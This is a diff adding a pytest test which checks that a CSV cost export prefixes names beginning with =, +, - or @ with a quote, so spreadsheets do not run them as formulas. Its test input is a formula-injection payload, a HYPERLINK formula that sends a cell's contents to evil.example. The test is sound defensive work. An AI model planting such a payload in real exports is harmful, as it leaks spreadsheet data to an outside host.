@@ -130,3 +130,15 @@ def test_it_exports_each_day_split_by_task_type(staff_client, calls):
         ["2025-03-01", "card_interpretation", "2", "0.00150000"],
         ["2025-03-03", "overall_reading", "1", "0.01500000"],
     ]
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_it_escapes_names_a_spreadsheet_would_run_as_formulas(staff_client, start):
+    # A model name reaches the export as staff typed it (a price override takes any name).
+    name = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
+    make_call(at("2025-03-02 09:00"), cost="0.00100000", model=name)
+
+    rows = rows_of(staff_client.get(URL, {**MARCH, "group": "model"}))
+
+    assert [row[0] for row in rows[1:]] == ["'" + name]
+    assert rows[1][2] == "0.00100000"  # numbers are left as numbers
